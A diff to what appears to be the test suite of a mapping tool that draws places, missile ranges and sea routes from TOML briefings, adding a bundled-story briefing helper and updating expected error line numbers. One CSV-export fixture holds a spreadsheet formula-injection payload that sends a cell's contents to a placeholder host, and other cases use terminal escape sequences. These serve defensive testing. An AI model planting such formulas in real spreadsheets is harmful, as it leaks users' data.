@@ -170,8 +170,13 @@ def _sparse(name, size_bytes):
 
 
 def _toml(text):
-    """A briefing that draws only the places layer, plus ``text``."""
+    """A briefing that draws only the places layer, plus ``text``; it starts empty (no bundled story)."""
     return 'title = "Corpus"\nlayers = ["places"]\n' + text
+
+
+def _story_toml(text, layers=("places", "ranges")):
+    """A briefing of the bundled story (its places, fath-360, routes) drawing ``layers``, plus ``text``."""
+    return f'title = "Corpus"\ndata = ["iran-russia"]\nlayers = {json.dumps(list(layers))}\n' + text
 
 
 PLACES_HEADER = "name,lat,lon,source,country\n"
@@ -315,8 +320,8 @@ def _cases():
          "places.geojson: kyiv: sources[0].quote: not found word for word in cnn-2024-06-21",
          setup=_set_place("kyiv", sources=[{"source": "cnn-2024-06-21", "quote": "Kyiv was never mentioned so."}]))
     case("briefing-unknown-place", _render("{d}/b.toml"),
-         "{d}/b.toml:5: ranges[0].centre: unknown place 'atlantis'; run 'mapper places' for the list",
-         files={"b.toml": _toml('[[ranges]]\nsystem = "fath-360"\ncentre = "atlantis"\n')})
+         "{d}/b.toml:6: ranges[0].centre: unknown place 'atlantis'; run 'mapper places' for the list",
+         files={"b.toml": _story_toml('[[ranges]]\nsystem = "fath-360"\ncentre = "atlantis"\n')})
 
     # -- bad values ----------------------------------------------------------------
     case("radius-zero", _ring("50.45,30.52", "0km"),
@@ -543,9 +548,9 @@ def _cases():
          "{d}/front.geojson: more than 100,000 positions; an area file may have at most 100,000 "
          "(simplify it, e.g. with ogr2ogr -simplify)", files={"front.geojson": line_area(100_001)}, bounded=True)
     case("briefing-area-too-many-positions", _render("{d}/b.toml"),
-         "{d}/b.toml:5: ranges[0].area: {d}/front.geojson: more than 100,000 positions; an area file may have at "
+         "{d}/b.toml:6: ranges[0].area: {d}/front.geojson: more than 100,000 positions; an area file may have at "
          "most 100,000 (simplify it, e.g. with ogr2ogr -simplify)",
-         files={"b.toml": _toml('[[ranges]]\nsystem = "fath-360"\narea = "front.geojson"\n'),
+         files={"b.toml": _story_toml('[[ranges]]\nsystem = "fath-360"\narea = "front.geojson"\n'),
                 "front.geojson": line_area(200_000)}, bounded=True)
     case("area-too-many-features", reach("fath-360", "{d}/many.geojson"),
          "{d}/many.geojson: 10,001 features; an area file may have at most 10,000",
@@ -587,7 +592,7 @@ def _cases():
     case("range-too-many-measures", _render("{d}/b.toml"),
          "Russia: measuring 3,524 places against 30,911 points of its outline takes 108,930,364 distances; "
          "at most 100,000,000 (draw fewer places or use a simpler area)", exit_code=2, error=InputError,
-         files={"b.toml": _toml('places = ["p.csv"]\n' + area_range),
+         files={"b.toml": _story_toml('places = ["p.csv"]\n' + area_range),
                 "p.csv": PLACES_HEADER + "".join(f"Place {i},50.{i:05d},30.5,me,UA\n" for i in range(3_500))},
          bounded=True)
     case("special-briefing-dev-zero", _render("{d}/b.toml"), "{d}/b.toml: not a regular file",
@@ -657,8 +662,9 @@ def _cases():
     case("speed-without-unit", route_call("10"),
          "speed '10' needs a unit: 10kn, 10km/h, 10mph or 10m/s", exit_code=2, error=InputError, bounded=True)
     case("briefing-speed-without-unit", _render("{d}/b.toml"),
-         "{d}/b.toml:6: routes[0].speed: speed '12' needs a unit: 12kn, 12km/h, 12mph or 12m/s",
-         files={"b.toml": _toml('[[routes]]\nfrom = "astara"\nto = "makhachkala"\nspeed = 12\n')}, bounded=True)
+         "{d}/b.toml:7: routes[0].speed: speed '12' needs a unit: 12kn, 12km/h, 12mph or 12m/s",
+         files={"b.toml": _story_toml('[[routes]]\nfrom = "astara"\nto = "makhachkala"\nspeed = 12\n',
+                                      layers=("places", "sea-routes"))}, bounded=True)
     case("output-ends-in-slash", ring_output_call("{d}/out.geojson/"),
          "{d}/out.geojson/: ends in '/', so it names a folder, not a file to write", exit_code=2, error=InputError,
          bounded=True)
@@ -675,8 +681,8 @@ def _cases():
     case("places-name-with-terminal-sequences", _places(), None,
          setup=_set_place("kyiv", name=terminal_name), bounded=True)
     case("kml-export-control-character-id", export_call("{d}/b.toml", "{d}/x.kml", "kml"), None,
-         files={"b.toml": 'title = "Corpus"\nlayers = ["ranges"]\n[[ranges]]\nid = "a\\u001bb"\n'
-                          'system = "fath-360"\ncentre = "kyiv"\n'}, bounded=True)
+         files={"b.toml": _story_toml('[[ranges]]\nid = "a\\u001bb"\nsystem = "fath-360"\ncentre = "kyiv"\n',
+                                      layers=("ranges",))}, bounded=True)
     case("csv-export-formula-names", export_call("{d}/b.toml", "{d}/x.csv", "csv"), None,
          files={"b.toml": with_places_csv,
                 "p.csv": PLACES_HEADER + '"=HYPERLINK(""http://x.example/?leak=""&A1,""click"")",50.48,34.97,me,UA\n'
